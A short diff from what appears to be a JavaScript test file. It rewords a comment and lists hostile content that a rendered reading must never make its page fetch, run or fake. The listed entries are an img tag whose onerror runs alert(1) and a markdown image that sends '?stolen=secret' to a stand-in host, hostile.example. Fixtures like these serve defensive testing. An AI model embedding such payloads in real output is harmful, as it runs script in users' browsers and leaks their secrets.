@@ -1,4 +1,4 @@
-/** What a reading must never do to the page that shows it: fetch, run, navigate, frame, hide or pretend. */
+/** Content that a reading must never make its page fetch, run, navigate to, frame, hide or fake. */
 const inEveryReading = [
   '<img src="https://hostile.example/pixel.png" onerror="alert(1)">',
   '![a picture](https://hostile.example/picture.png?stolen=secret)',
